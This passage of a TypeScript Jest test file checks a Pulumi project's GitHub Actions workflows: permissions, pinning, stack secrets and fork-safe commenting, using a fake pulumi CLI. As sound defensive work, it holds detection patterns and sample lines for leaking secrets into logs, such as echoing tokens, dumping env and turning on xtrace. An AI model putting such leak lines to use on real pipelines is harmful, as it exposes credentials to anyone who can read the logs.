// The GitHub Actions workflows: what triggers them, which jobs run in which order with which token
// permissions, that every stack gets its firewall diff, preview and deploy with every secret the program needs,
// and that no secret can reach a shell script or the log. The firewall diff and impact step, the stack secrets
// (.ci/stack-secrets.sh) and the fork-safe PR comment script are run for real against a fake `npm`, a fake
// `pulumi` and a fake GitHub API.
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { parse } from "yaml";
import { CONFIG_SCHEMA } from "../components/config";

interface Step {
    id?: string;
    name?: string;
    if?: string;
    uses?: string;
    run?: string;
    shell?: string;
    with?: Record<string, unknown>;
    env?: Record<string, string>;
}
interface Job {
    name?: string;
    needs?: string | string[];
    if?: string;
    "runs-on"?: string;
    container?: string | { image: string; options?: string };
    environment?: string | { name: string };
    permissions?: string | Record<string, string>;
    concurrency?: string | { group: string; "cancel-in-progress"?: boolean };
    strategy?: { matrix?: Record<string, unknown> };
    env?: Record<string, string>;
    outputs?: Record<string, string>;
    steps: Step[];
}
interface Workflow {
    name: string;
    on: Record<string, unknown>;
    permissions?: string | Record<string, string>;
    concurrency?: string | { group: string; "cancel-in-progress"?: boolean };
    env?: Record<string, string>;
    jobs: Record<string, Job>;
}

const root = path.join(__dirname, "..");
const read = (file: string) => fs.readFileSync(path.join(root, file), "utf8");
const load = (name: string): Workflow => parse(read(path.join(".github", "workflows", name)));
const STACK_SECRETS_SCRIPT = ".ci/stack-secrets.sh";
const pr = load("pull-request.yml");
const deploy = load("deploy.yml");
const prComment = load("pull-request-comment.yml");
const workflows: [string, Workflow][] = [["pull-request.yml", pr], ["deploy.yml", deploy], ["pull-request-comment.yml", prComment]];

test("the workflows tested here are all the workflows there are", () => {
    expect(fs.readdirSync(path.join(root, ".github", "workflows")).sort()).toEqual(workflows.map(([file]) => file).sort());
});

/** Every stack of the project: one Pulumi.<stack>.yaml each in the repository root. */
const STACKS = fs.readdirSync(root).flatMap((f) => /^Pulumi\.([^.]+)\.yaml$/.exec(f)?.[1] ?? []).sort();

const needs = (job: Job) => (job.needs === undefined ? [] : ([] as string[]).concat(job.needs));
const envName = (job: Job) => (typeof job.environment === "string" ? job.environment : job.environment?.name);
/** A step of pulumi/actions that runs a command (without one, the action only installs the CLI). */
const isPulumi = (step: Step) => (step.uses?.startsWith("pulumi/actions@") ?? false) && step.with?.command !== undefined;
const pulumiStep = (job: Job) => {
    const found = job.steps.filter(isPulumi);
    expect(found).toHaveLength(1);
    return found[0];
};
const allSteps = (wf: Workflow) => Object.entries(wf.jobs).flatMap(([id, job]) => job.steps.map((step) => ({ job: id, step })));
const runSteps = () => workflows.flatMap(([file, wf]) => allSteps(wf).filter(({ step }) => step.run !== undefined).map((s) => ({ file, ...s })));
const label = (file: string, job: string, step: Step) => `${file} ${job}: ${step.name ?? step.id ?? step.run?.split("\n")[0] ?? step.uses}`;

/** A reference to a secret in an expression (`${{ secrets.X }}`, `if: secrets.X`), not a file name such as stack-secrets.sh. */
const SECRET_REF = /(?<![\w.\/-])secrets\.(\w+)/g;
const refersToSecret = (text: string) => new RegExp(SECRET_REF.source).test(text);

/** The environment variables of a step that hold a secret (step, job or workflow level). */
function secretVars(wf: Workflow, job: Job, step: Step): string[] {
    const env = { ...wf.env, ...job.env, ...step.env };
    return Object.entries(env).filter(([, v]) => refersToSecret(String(v))).map(([k]) => k);
}

/** Lines of a shell script that would print one of those variables, or the whole environment. */
function leaks(script: string, vars: string[]): string[] {
    return script.split("\n").filter((line) =>
        /^\s*(printenv|env)\s*($|[|>;&])/.test(line) ||
        vars.some((v) => new RegExp(`\\b(echo|printf|cat|tee)\\b.*\\$\\{?${v}\\b|\\bprintenv\\s+${v}\\b`).test(line)));
}

/** Turns on shell tracing (which prints every expanded command, secrets included). */
const XTRACE = /(^|[\s;&|])set\s+(-[a-wyz]*x|-o\s+xtrace)|\bbash\s+(-\w*\s+)*-[a-wyz]*x\b/m;

/** The artifact pull-request.yml hands to pull-request-comment.yml. */
const COMMENT_ARTIFACT = "firewall-diff-comment";

/** The program's secret keys that a stack must have: secret, no default, not optional (components/config.ts). */
const REQUIRED_SECRET_KEYS = (Object.keys(CONFIG_SCHEMA) as (keyof typeof CONFIG_SCHEMA)[]).filter((k) => CONFIG_SCHEMA[k].secret === true && CONFIG_SCHEMA[k].default === undefined && !CONFIG_SCHEMA[k].optional);
/** The GitHub secret a config key comes from: sshPrivateKey -> SSH_PRIVATE_KEY. */
const secretNameOf = (key: string) => key.replace(/([a-z0-9])([A-Z])/g, "$1_$2").toUpperCase();

/** The GitHub secrets a workflow reads anywhere. */
const secretNames = (wf: Workflow) => [...new Set([...JSON.stringify(wf).matchAll(SECRET_REF)].map((m) => m[1]))].sort();

/** A distinctive value per secret, several lines long like a private key, with characters a shell would expand. */
const fakeSecret = (name: string) => `-----BEGIN ${name}-----\nvalue of ${name} with 'quotes', "double", $HOME and \`date\`\n-----END ${name}-----\n`;
/** Every secret the workflows read, set. */
const ALL_SECRETS = Object.fromEntries([...new Set(workflows.flatMap(([, wf]) => secretNames(wf)))].map((n) => [n, fakeSecret(n)]));
/** The secrets without a stack's own (SSH_PRIVATE_KEY_PROD): what a repository with one key for all stacks has. */
const SHARED_SECRETS = Object.fromEntries(Object.entries(ALL_SECRETS).filter(([n]) => !/_(DEV|PROD)$/.test(n)));

interface Given {
    secrets: Record<string, string>;
    vars?: Record<string, string>;
    stack?: string;
}

/** A step's environment as GitHub gives it: a secret or variable that is not set is the empty string. */
function stepEnv(wf: Workflow, job: Job, step: Step, given: Given): Record<string, string> {
    const env = { ...wf.env, ...job.env, ...step.env };
    return Object.fromEntries(
        Object.entries(env).map(([k, v]) => {
            const text = String(v);
            const m = /^\$\{\{\s*(secrets|vars|matrix)\.(\w+)\s*\}\}$/.exec(text);
            if (m === null) {
                expect([k, text]).not.toEqual([k, expect.stringContaining("${{")]);
                return [k, text];
            }
            const [, scope, name] = m;
            if (scope === "matrix") {
                expect(name).toBe("stack");
                return [k, given.stack ?? ""];
            }
            return [k, (scope === "secrets" ? given.secrets : given.vars ?? {})[name] ?? ""];
        }),
    );
}

/**
 * A model of the pulumi CLI as .ci/stack-secrets.sh uses it (pulumi/pulumi pkg/cmd/pulumi/config/config.go,
 * auth/login.go, stack/stack_select.go): `login`; `stack select <name>` fails for a stack the backend lacks;
 * `config get <key>` fails for a key the stack lacks; `config set <key> [value]` reads the value from its standard
 * input when no value is given (not a terminal). Flags anywhere; --stack/-s and --config-file take a value.
 * Each call is logged with its arguments and what it read.
 */
const FAKE_PULUMI = `#!/usr/bin/env node
const fs = require("fs");
const args = process.argv.slice(2);
const world = JSON.parse(process.env.FAKE_PULUMI_WORLD);
const positional = [];
let stack;
for (let i = 0; i < args.length; i++) {
    if (["--stack", "-s", "--config-file"].includes(args[i])) { if (args[i] !== "--config-file") stack = args[i + 1]; i++; }
    else if (!args[i].startsWith("-")) positional.push(args[i]);
}
const stdin = positional[0] === "config" && positional[1] === "set" && positional.length === 3 ? fs.readFileSync(0, "utf8") : undefined;
fs.appendFileSync(process.env.FAKE_PULUMI_LOG, JSON.stringify({ args, stdin }) + "\\n");
const fail = (m) => { process.stderr.write("error: " + m + "\\n"); process.exit(255); };
if (positional[0] === "login") { console.log("Logged in to the fake backend"); process.exit(0); }
if (positional[0] === "stack" && positional[1] === "select") {
    if (!world.stacks.includes(positional[2])) fail("no stack named '" + positional[2] + "' found");
    process.exit(0);
}
if (positional[0] === "config" && ["get", "set"].includes(positional[1])) {
    if (!world.stacks.includes(stack)) fail("no stack named '" + stack + "' found");
    if (positional[1] === "set") process.exit(0);
    if (!(world.config[stack] || []).includes(positional[2])) fail("configuration key '" + positional[2] + "' not found for stack '" + stack + "'");
    console.log("{}");
    process.exit(0);
}
fail("the fake pulumi does not know: pulumi " + args.join(" "));
`;

interface PulumiCall {
    args: string[];
    stdin?: string;
}

/** Runs a step's script as GitHub would (bash -eo pipefail, in the checkout) with the fake pulumi on PATH. */
function runStep(wf: Workflow, job: Job, step: Step, given: Given, world: { stacks: string[]; config?: Record<string, string[]> } = { stacks: STACKS }) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "bbb-step-"));
    fs.mkdirSync(path.join(dir, "bin"));
    fs.writeFileSync(path.join(dir, "bin", "pulumi"), FAKE_PULUMI, { mode: 0o755 });
    const files = { output: path.join(dir, "output"), log: path.join(dir, "pulumi.log") };
    const r = spawnSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", step.run!], {
        cwd: root,
        encoding: "utf8",
        env: {
            PATH: `${path.join(dir, "bin")}:${process.env.PATH}`,
            GITHUB_OUTPUT: files.output,
            FAKE_PULUMI_LOG: files.log,
            FAKE_PULUMI_WORLD: JSON.stringify({ config: {}, ...world }),
            ...stepEnv(wf, job, step, given),
        },
    });
    const text = (f: string) => (fs.existsSync(f) ? fs.readFileSync(f, "utf8") : "");
    const outputs = Object.fromEntries(text(files.output).split("\n").filter(Boolean).map((l) => [l.slice(0, l.indexOf("=")), l.slice(l.indexOf("=") + 1)]));
    const calls: PulumiCall[] = text(files.log).split("\n").filter(Boolean).map((l) => JSON.parse(l));
    return { status: r.status, log: r.stdout + r.stderr, outputs, calls };
}

/** The `pulumi config set` calls that set `key` on `stack`. */
const configSets = (calls: PulumiCall[], stack: string, key: string) =>
    calls.filter((c) => c.args[0] === "config" && c.args[1] === "set" && c.args[c.args.length - 1] === key && c.args[c.args.indexOf("--stack") + 1] === stack);

/** The workflows that run the tests and Pulumi (the comment workflow runs neither). */
const cloudWorkflows: [string, Workflow][] = [["pull-request.yml", pr], ["deploy.yml", deploy]];

describe("every workflow", () => {
    test("the project has the stacks the workflows are written for", () => {
        expect(STACKS).toEqual(["dev", "prod"]);
    });

    test.each(workflows)("%s: the default token has no permission unless a job asks for one", (_file, wf) => {
        expect([{}, { contents: "read" }]).toContainEqual(wf.permissions);
    });

    test.each(workflows)("%s: pull-requests: write only on the jobs that comment; nothing else writes", (_file, wf) => {
        for (const [id, job] of Object.entries(wf.jobs)) {
            const perms = job.permissions ?? wf.permissions ?? {};
            expect(typeof perms).toBe("object"); // never read-all / write-all
            const granted = perms as Record<string, string>;
            expect([id, Object.values(granted).every((level) => level === "read" || level === "write")]).toEqual([id, true]);
            const comments = job.steps.some((s) => s.uses?.startsWith("actions/github-script@") || (isPulumi(s) && String(s.with?.["comment-on-pr"]) === "true"));
            expect([id, granted["pull-requests"] === "write"]).toEqual([id, comments]);
            const writes = Object.entries(granted).filter(([scope, level]) => level === "write" && scope !== "pull-requests");
            expect([id, writes]).toEqual([id, []]);
            if (job.steps.some((s) => s.uses?.startsWith("actions/checkout@"))) expect([id, granted.contents]).toEqual([id, "read"]);
        }
    });

    test.each(workflows)("%s: every action is pinned to a version (major tag, exact tag or commit), none to a branch", (_file, wf) => {
        for (const { job, step } of allSteps(wf)) {
            if (step.uses === undefined) continue;
            expect([job, step.uses]).toEqual([job, expect.stringMatching(/^[\w.-]+\/[\w.\/-]+@(v\d+(\.\d+){0,2}|[0-9a-f]{40})$/)]);
        }
    });

    test.each(workflows)("%s: secrets appear only in a step's env: or with:, never in a script, a condition or a job-wide env", (_file, wf) => {
        const misplaced: string[] = [];
        const walk = (node: unknown, at: string[]): void => {
            if (typeof node === "string") {
                if (refersToSecret(node)) {
                    const ok = at.length === 6 && at[0] === "jobs" && at[2] === "steps" && (at[4] === "env" || at[4] === "with");
                    if (!ok) misplaced.push(at.join("."));
                }
            } else if (Array.isArray(node)) node.forEach((v, i) => walk(v, [...at, String(i)]));
            else if (node && typeof node === "object") for (const [k, v] of Object.entries(node)) walk(v, [...at, k]);
        };
        walk(wf, []);
        expect(misplaced).toEqual([]);
    });

    test("no run: script interpolates ${{ secrets.* }} or an attacker-controlled ${{ github.* }} value", () => {
        for (const { file, job, step } of runSteps()) {
            expect([label(file, job, step), step.run]).not.toEqual([expect.anything(), expect.stringMatching(/\$\{\{[^}]*secrets\./)]);
            expect([label(file, job, step), step.run]).not.toEqual([expect.anything(), expect.stringMatching(/\$\{\{[^}]*github\.(event|head_ref|base_ref)/)]);
        }
    });

    test("no run: script turns on xtrace or prints a variable holding a secret", () => {
        // The checks themselves catch what they are meant to.
        expect(leaks('echo "token: $PULUMI_ACCESS_TOKEN"\nprintf %s "${OS_PASSWORD}" | tee x\nenv | sort', ["PULUMI_ACCESS_TOKEN", "OS_PASSWORD"])).toHaveLength(3);
        expect(leaks('[ -n "$OS_PASSWORD" ] || echo "::error::OS_PASSWORD is not set"', ["OS_PASSWORD"])).toEqual([]);
        expect(XTRACE.test("set -euxo pipefail")).toBe(true);
        expect(XTRACE.test("set -uo pipefail")).toBe(false);

        for (const [file, wf] of workflows) {
            for (const [id, job] of Object.entries(wf.jobs)) {
                for (const step of job.steps) {
                    if (step.run === undefined) continue;
                    expect([label(file, id, step), XTRACE.test(step.run)]).toEqual([label(file, id, step), false]);
                    expect([label(file, id, step), step.shell ?? ""]).not.toEqual([label(file, id, step), expect.stringMatching(/\s-\w*x/)]);
                    expect([label(file, id, step), leaks(step.run, secretVars(wf, job, step))]).toEqual([label(file, id, step), []]);
                }
            }
        }
    });

    test("the script that handles the secrets (.ci/stack-secrets.sh) turns on no xtrace and hands a value only to pulumi config set --secret's standard input", () => {
        const script = read(STACK_SECRETS_SCRIPT);
        expect(XTRACE.test(script)).toBe(false);
        const secretNames = [...new Set(workflows.flatMap(([, wf]) => Object.values(wf.jobs).flatMap((job) => job.steps.flatMap((step) => secretVars(wf, job, step)))))];
        expect(secretNames).toEqual(expect.arrayContaining(["PULUMI_ACCESS_TOKEN", "SSH_PRIVATE_KEY", "OS_PASSWORD"]));
        expect(leaks(script, secretNames)).toEqual([]);
        // Values are read by indirection (${!var}): only to test that one is there, or piped into pulumi.
        const indirect = script.split("\n").filter((line) => line.includes("${!"));
        expect(indirect.length).toBeGreaterThan(0);
        for (const line of indirect) {
            expect([line, /^given\(\) \{ \[ -n "\$\{!1:-\}" \]; \}$/.test(line.trim()) || /^printf '%s' "\$\{!var\}" \| pulumi config set [^|;&>]*--secret /.test(line.trim())]).toEqual([line, true]);
        }
        const r = spawnSync("shellcheck", [path.join(root, STACK_SECRETS_SCRIPT)], { encoding: "utf8" });
        expect(r.error).toBeUndefined();
        expect(r.stdout).toBe("");
    });

    test("every run: script passes shellcheck", () => {
        for (const { file, job, step } of runSteps()) {
            const r = spawnSync("shellcheck", ["-s", "bash", "-"], { input: step.run, encoding: "utf8" });
            expect(r.error).toBeUndefined();
            expect([label(file, job, step), r.stdout]).toEqual([label(file, job, step), ""]);
        }
    });

    test.each(cloudWorkflows)("%s: the tests run as root through .ci/run, on Node.js 20 with the npm cache", (_file, wf) => {
        const job = wf.jobs.test;
        const node = job.steps.find((s) => s.uses?.startsWith("actions/setup-node@"));
        expect(node?.with).toMatchObject({ "node-version": 20, cache: "npm" });
        const run = job.steps.map((s) => s.run).filter((r): r is string => r !== undefined);
        expect(run).toHaveLength(1);
        // Root: either in a container (whose default user is root) or through sudo on the runner.
        const container = typeof job.container === "string" ? { image: job.container } : job.container;
        if (container) {
            expect(container.options ?? "").not.toMatch(/--user/);
            expect(run[0].trim()).toBe("bash .ci/run");
        } else {
            expect(run[0].trim()).toMatch(/^sudo -E (env "PATH=\$PATH" )?bash \.ci\/run$/);
        }
        expect(fs.existsSync(path.join(root, ".ci", "run"))).toBe(true);
    });

    test.each(cloudWorkflows)("%s: every pulumi preview/up runs the CrossGuard pack in policy/ from the project root, after npm ci", (_file, wf) => {
        const found = Object.values(wf.jobs).filter((job) => job.steps.some(isPulumi));
        expect(found.length).toBeGreaterThan(0);
        for (const job of found) {
            const step = pulumiStep(job);
            expect(["preview", "up"]).toContain(step.with?.command);
            expect(step.with).toMatchObject({ policyPacks: "policy", "work-dir": "." });
            expect(job.steps.findIndex((s) => s.run === "npm ci")).toBeGreaterThan(-1);
            expect(job.steps.findIndex((s) => s.run === "npm ci")).toBeLessThan(job.steps.indexOf(step));
            // The state backend (Pulumi Cloud, or a self-managed one), the OpenStack credentials and the Cloudflare
            // token, from secrets.
            for (const name of [
                "PULUMI_ACCESS_TOKEN", "PULUMI_BACKEND_URL", "PULUMI_CONFIG_PASSPHRASE", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY",
                "OS_AUTH_URL", "OS_REGION_NAME", "OS_APPLICATION_CREDENTIAL_ID", "OS_APPLICATION_CREDENTIAL_SECRET",
                "OS_USERNAME", "OS_PASSWORD", "OS_PROJECT_NAME", "OS_USER_DOMAIN_NAME", "OS_PROJECT_DOMAIN_NAME", "CLOUDFLARE_API_TOKEN",
            ]) {
                expect([name, step.env?.[name]]).toEqual([name, `\${{ secrets.${name} }}`]);
            }
        }
    });
});

describe("pull-request.yml", () => {
    test("runs on pull requests and by hand, never on pull_request_target (fork code with secrets)", () => {
        expect(Object.keys(pr.on).sort()).toEqual(["pull_request", "workflow_dispatch"]);
    });

    test("one run per pull request: a new push cancels the previous run", () => {
        expect(pr.concurrency).toEqual({ group: expect.stringContaining("github.event.pull_request.number"), "cancel-in-progress": true });
    });

    test("jobs: test, firewall, and preview behind the credentials gate", () => {
        expect(Object.keys(pr.jobs).sort()).toEqual(["credentials", "firewall", "preview", "test"]);
        expect(needs(pr.jobs.test)).toEqual([]);
        expect(needs(pr.jobs.firewall)).toEqual([]);
        expect(needs(pr.jobs.preview)).toEqual(["credentials"]);
    });

    describe("firewall", () => {
        const job = pr.jobs.firewall;
        const diff = job.steps.find((s) => s.run?.includes("firewall:diff"))!;
        const handoff = job.steps.find((s) => s.run?.includes("pr-number"))!;
        const upload = job.steps.find((s) => s.uses?.startsWith("actions/upload-artifact@"))!;
        const fail = job.steps[job.steps.length - 1];

        test("checks out the whole history (the diff needs the base branch) and runs npm ci first", () => {
            const checkout = job.steps.find((s) => s.uses?.startsWith("actions/checkout@"));
            expect(checkout?.with?.["fetch-depth"]).toBe(0);
            expect(job.steps.findIndex((s) => s.run === "npm ci")).toBeLessThan(job.steps.indexOf(diff));
        });

        test("covers every stack", () => {
            expect((job.env?.STACKS ?? "").split(/\s+/).sort()).toEqual(STACKS);
        });

        test("compares with the pull request's base branch, passed through env:", () => {
            expect(diff.env?.BASE_REF).toBe("${{ github.base_ref }}");
        });

        test("needs no secret and no write permission (as a fork's pull request gets it): it comments through pull-request-comment.yml", () => {
            expect(job.permissions).toEqual({ contents: "read" });
            expect(JSON.stringify(job)).not.toMatch(/secrets\./);
            expect(job.steps.some((s) => s.uses?.startsWith("actions/github-script@"))).toBe(false);
        });

        test("hands the comment and its pull request number over as an artifact, on pull requests", () => {
            expect(handoff.if).toBe("github.event_name == 'pull_request'");
            expect(handoff.env).toEqual({ BODY_FILE: `\${{ steps.${diff.id}.outputs.body }}`, PR_NUMBER: "${{ github.event.pull_request.number }}" });
            expect(upload.if).toBe(handoff.if);
            expect(upload.with).toMatchObject({ name: COMMENT_ARTIFACT, path: "${{ runner.temp }}/pr-comment/", "if-no-files-found": "error" });
            expect(job.steps.indexOf(diff)).toBeLessThan(job.steps.indexOf(handoff));
            expect(job.steps.indexOf(handoff)).toBeLessThan(job.steps.indexOf(upload));

            // Run for real: the files are the diff step's comment and the number, nothing else.
            const { summary, outputs, dir } = runDiff({ dev: 1, prod: 0 });
            const r = spawnSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", handoff.run!], {
                encoding: "utf8",
                env: { PATH: process.env.PATH, RUNNER_TEMP: dir, BODY_FILE: outputs.body, PR_NUMBER: "42" },
            });
            expect(r.status).toBe(0);
            expect(fs.readdirSync(path.join(dir, "pr-comment")).sort()).toEqual(["comment.md", "pr-number"]);
            expect(fs.readFileSync(path.join(dir, "pr-comment", "comment.md"), "utf8")).toBe(summary);
            expect(fs.readFileSync(path.join(dir, "pr-comment", "pr-number"), "utf8")).toBe("42\n");
        });

        test("fails the job, after handing over the comment, when a diff could not be computed", () => {
            expect(fail.if).toBe(`steps.${diff.id}.outputs.failed != ''`);
            expect(fail.run).toMatch(/exit 1\s*$/);
            expect(job.steps.indexOf(fail)).toBeGreaterThan(job.steps.indexOf(upload));
        });

        /**
         * Runs the diff step as GitHub would (bash -eo pipefail) with a fake npm; `rc` is each stack's exit code of
         * firewall:diff, `impact` each stack's exit code of impact (0 when not given).
         */
        function runDiff(rc: Record<string, number>, baseRef = "main", impact: Record<string, number> = {}) {
            const dir = fs.mkdtempSync(path.join(os.tmpdir(), "bbb-workflow-"));
            fs.mkdirSync(path.join(dir, "bin"));
            fs.writeFileSync(
                path.join(dir, "bin", "npm"),
                [
                    "#!/bin/bash",
                    'echo "$*" >> "$NPM_LOG"',
                    'script=$3; stack=""; while [ $# -gt 0 ]; do [ "$1" = --stack ] && stack=$2; shift; done',
                    'if [ "$script" = impact ]; then echo "| $stack-host | resize the VM |"; else echo "| $stack-host | + 443/tcp from 0.0.0.0/0 |"; fi',
                    'echo "diagnostics for $stack" >&2',
                    'var="RC_${script//[^a-z]/_}_$stack"; exit "${!var:-0}"',
                ].join("\n"),
                { mode: 0o755 },
            );
            const script = path.join(dir, "step.sh");
            fs.writeFileSync(script, diff.run!);
            const files = { summary: path.join(dir, "summary.md"), output: path.join(dir, "output"), npm: path.join(dir, "npm.log") };
            const r = spawnSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", script], {
                cwd: dir,
                encoding: "utf8",
                env: {
                    PATH: `${path.join(dir, "bin")}:${process.env.PATH}`,
                    RUNNER_TEMP: dir,
                    GITHUB_STEP_SUMMARY: files.summary,
                    GITHUB_OUTPUT: files.output,
                    NPM_LOG: files.npm,
                    STACKS: job.env!.STACKS,
                    BASE_REF: baseRef,
                    ...Object.fromEntries(Object.entries(rc).map(([s, c]) => [`RC_firewall_diff_${s}`, String(c)])),
                    ...Object.fromEntries(Object.entries(impact).map(([s, c]) => [`RC_impact_${s}`, String(c)])),
                },
            });
            const read = (f: string) => (fs.existsSync(f) ? fs.readFileSync(f, "utf8") : "");
            const outputs = Object.fromEntries(read(files.output).split("\n").filter(Boolean).map((l) => [l.slice(0, l.indexOf("=")), l.slice(l.indexOf("=") + 1)]));
            return { status: r.status, stderr: r.stderr, summary: read(files.summary), outputs, calls: read(files.npm).trim().split("\n"), dir };
        }

        test("runs the diff and the impact for every stack against origin/<base>; exit 1 (changed) is not a failure", () => {
            const r = runDiff({ dev: 1, prod: 0 });
            expect(r.status).toBe(0);
            expect(r.calls).toEqual(
                STACKS.flatMap((s) => [`run --silent firewall:diff -- --stack ${s} --base origin/main`, `run --silent impact -- --stack ${s} --base origin/main`]),
            );
            expect(r.outputs.failed).toBe("");
            expect(r.summary).toMatch(/^<!-- bbb-firewall-diff -->\n/);
            expect(r.summary).toContain("### Stack `dev`: changed\n\n| dev-host | + 443/tcp from 0.0.0.0/0 |");
            expect(r.summary).toContain("### Stack `prod`: unchanged");
            expect(r.summary).toContain("change in: **dev**");
            expect(r.summary).not.toContain("diagnostics"); // stderr stays in the job log
            expect(fs.readFileSync(r.outputs.body, "utf8")).toBe(r.summary);
        });

        test("exit 2 (error) is reported, and fails the job through the last step", () => {
            const r = runDiff({ dev: 0, prod: 2 });
            expect(r.status).toBe(0);
            expect(r.outputs.failed).toBe("prod (firewall:diff)");
            expect(r.summary).toContain("### Stack `prod`: error (exit 2");
            expect(r.summary).toContain("No security group rule changes");
        });

        test("the impact of each stack is in the same comment, after the firewall; its exit 2 (meetings at risk) is information", () => {
            const r = runDiff({ dev: 0, prod: 0 }, "main", { dev: 1, prod: 2 });
            expect(r.status).toBe(0);
            expect(r.outputs.failed).toBe("");
            expect(r.summary).toMatch(/^<!-- bbb-firewall-diff -->\n## Firewall rules\n/);
            const impact = r.summary.slice(r.summary.indexOf("## What pulumi up does to the hosts"));
            expect(r.summary.indexOf("## What pulumi up does to the hosts")).toBeGreaterThan(r.summary.indexOf("### Stack `prod`: unchanged"));
            expect(impact).toContain("**Meetings or data at risk in: prod.**");
            expect(impact).toContain("### Stack `dev`: steps run again, no meeting at risk\n\n| dev-host | resize the VM |");
            expect(impact).toContain("### Stack `prod`: meetings or data at risk\n\n| prod-host | resize the VM |");
            expect(runDiff({ dev: 0, prod: 0 }, "main", { dev: 0, prod: 0 }).summary).toContain("No meeting or data at risk in: dev prod.");
        });

        test("an impact that fails (exit 3) fails the job through the last step, after the comment", () => {
            const r = runDiff({ dev: 0, prod: 0 }, "main", { dev: 3 });
            expect(r.status).toBe(0);
            expect(r.outputs.failed).toBe("dev (impact)");
            expect(r.summary).toContain("### Stack `dev`: error (exit 3");
        });

        test("without a base branch (workflow_dispatch) it lets the commands use their defaults (merge base with main; HEAD)", () => {
            const r = runDiff({ dev: 0, prod: 0 }, "");
            expect(r.status).toBe(0);
            expect(r.calls).toEqual(STACKS.flatMap((s) => [`run --silent firewall:diff -- --stack ${s}`, `run --silent impact -- --stack ${s}`]));
        });
    });

    describe("preview", () => {
        const gate = pr.jobs.credentials;
        const job = pr.jobs.preview;

        test("runs only when the credentials exist: the gate tests them in a step's env (no secrets in if:), with a read-only token", () => {
            expect(job.if).toBe("needs.credentials.outputs.configured == 'true'");
            const check = gate.steps.find((s) => s.id !== undefined && gate.outputs?.configured === `\${{ steps.${s.id}.outputs.configured }}`);
            expect(check?.run).toBe(`bash ${STACK_SECRETS_SCRIPT} check`);
            expect(gate.permissions).toEqual({ contents: "read" });
        });

        test("previews every stack, with a diff and a PR comment", () => {
            expect((job.strategy?.matrix?.stack as string[]).slice().sort()).toEqual(STACKS);
            expect(pulumiStep(job).with).toMatchObject({ command: "preview", "stack-name": "${{ matrix.stack }}", diff: true, "comment-on-pr": true });
        });
    });
});

describe("deploy.yml", () => {
    const deployJobs = Object.entries(deploy.jobs).filter(([, job]) => job.steps.some(isPulumi));
    const byStack: Record<string, { id: string; job: Job }> = Object.fromEntries(deployJobs.map(([id, job]) => [envName(job), { id, job }]));

    test("runs on pushes to main and by hand, never on pull requests", () => {
        expect(deploy.on).toEqual({ push: { branches: ["main"] }, workflow_dispatch: null });
    });

    test("one pulumi up per stack, bound to the GitHub environment named after it (prod's approval lives there)", () => {
        expect(Object.keys(byStack).sort()).toEqual(STACKS);
        for (const [stack, { job }] of Object.entries(byStack)) {
            expect(pulumiStep(job).with).toMatchObject({ command: "up", "stack-name": stack });
            expect(job.if).toBe("github.ref == 'refs/heads/main'");
        }
    });

    test("tests first, then dev, then prod", () => {
        expect(Object.keys(deploy.jobs).sort()).toEqual(["test", ...deployJobs.map(([id]) => id)].sort());
        expect(needs(byStack.dev.job)).toEqual(["test"]);
        expect(needs(byStack.prod.job)).toEqual([byStack.dev.id]);
    });

    test("one deploy per stack at a time, and a running deploy is never cancelled", () => {
        expect(deploy.concurrency).toBeUndefined(); // a workflow-wide group would hold dev behind prod's approval
        for (const [stack, { job }] of Object.entries(byStack)) {
            expect(job.concurrency).toEqual({ group: expect.stringContaining(stack), "cancel-in-progress": false });
        }
        const groups = deployJobs.map(([, job]) => (job.concurrency as { group: string }).group);
        expect(new Set(groups).size).toBe(groups.length);
    });
});

describe("the stack secrets in every preview and deploy job (.ci/stack-secrets.sh)", () => {
    /** Each job that runs pulumi preview or up, once per stack it runs for, with its gate: the step that says whether the secrets are there. */
    const pulumiJobs = cloudWorkflows.flatMap(([file, wf]) =>
        Object.entries(wf.jobs)
            .filter(([, job]) => job.steps.some(isPulumi))
            .flatMap(([id, job]) => {
                const stackName = String(pulumiStep(job).with?.["stack-name"]);
                const stacks = stackName === "${{ matrix.stack }}" ? (job.strategy?.matrix?.stack as string[]) : [stackName];
                // The PR's preview waits for a job of its own; a deploy job (whose GitHub environment's secrets only it sees) checks first.
                const gateJob = needs(job).map((n) => wf.jobs[n]).find((j) => j.outputs?.configured !== undefined) ?? job;
                const gate = gateJob.steps.find((s) => s.run?.startsWith(`bash ${STACK_SECRETS_SCRIPT} check`))!;
                return stacks.map((stack) => ({ name: `${file} ${id} (${stack})`, wf, job, gateJob, gate, stack }));
            }),
    );
    const setter = (job: Job) => job.steps.find((s) => s.run?.startsWith(`bash ${STACK_SECRETS_SCRIPT} set`))!;

    test("the program has a required secret key, and the preview and deploy jobs are found (else the tests below test nothing)", () => {
        expect(REQUIRED_SECRET_KEYS).toContain("sshPrivateKey");
        expect(pulumiJobs.map((j) => j.name).sort()).toEqual(["deploy.yml deploy-dev (dev)", "deploy.yml deploy-prod (prod)", "pull-request.yml preview (dev)", "pull-request.yml preview (prod)"]);
    });

    test.each(pulumiJobs)("$name: every required secret key of the program reaches the stack, from the secret of its name, on pulumi's standard input", ({ wf, job, stack }) => {
        const step = setter(job);
        expect(step).toBeDefined();
        expect(job.steps.indexOf(step)).toBeLessThan(job.steps.indexOf(pulumiStep(job)));
        expect(step.if).toBe(pulumiStep(job).if); // whenever pulumi runs
        // The CLI is installed before (pulumi/actions without a command only installs it).
        const install = job.steps.findIndex((s) => s.uses?.startsWith("pulumi/actions@") && s.with?.command === undefined);
        expect(install).toBeGreaterThan(-1);
        expect(install).toBeLessThan(job.steps.indexOf(step));

        const r = runStep(wf, job, step, { secrets: SHARED_SECRETS, stack });
        expect(r.log).toBe(r.log.replace(/::error::.*/, "")); // no error
        expect(r.status).toBe(0);
        expect(r.calls[0].args).toEqual(["login", "--non-interactive"]);
        for (const key of REQUIRED_SECRET_KEYS) {
            const sets = configSets(r.calls, stack, key);
            expect([key, sets.length]).toEqual([key, 1]);
            expect([key, sets[0].args]).toEqual([key, expect.arrayContaining(["--secret"])]);
            expect([key, sets[0].stdin]).toEqual([key, ALL_SECRETS[secretNameOf(key)]]);
        }
        // No value on a command line or in the log.
        expect(JSON.stringify(r.calls.map((c) => c.args))).not.toContain("value of ");
        expect(r.log).not.toContain("value of ");
